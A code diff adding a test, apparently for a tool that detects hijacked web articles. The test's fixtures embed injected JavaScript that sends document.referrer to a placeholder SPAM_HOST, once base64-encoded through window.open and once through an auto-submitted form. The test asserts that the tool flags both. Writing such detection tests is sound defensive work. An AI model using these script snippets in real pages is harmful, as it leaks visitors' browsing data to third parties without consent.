@@ -78,3 +78,14 @@ def test_an_onclick_that_sends_the_referrer_to_another_site_by_itself():
                       "查看详情</a>")
     a = cleaned(body)
     assert a.hijacked and redirects(a)
+
+
+def test_the_referrer_handed_on_in_base64_through_a_window_or_in_a_form_the_code_submits():
+    opened = ARTICLE + (f"<script>function pv(){{window.open('https://{SPAM_HOST}/r?k='+btoa(document.referrer))}}</script>"
+                        '<img src="/banner.jpg" onclick="pv()">')
+    submitted = ARTICLE + (f"<script>var f=document.createElement('form');f.action='https://{SPAM_HOST}/in';"
+                           "var i=document.createElement('input');i.name='from';i.value=document.referrer;"
+                           "f.appendChild(i);document.body.appendChild(f);f.submit()</script>")
+    for body in (opened, submitted):
+        a = cleaned(body)
+        assert a.hijacked and redirects(a)
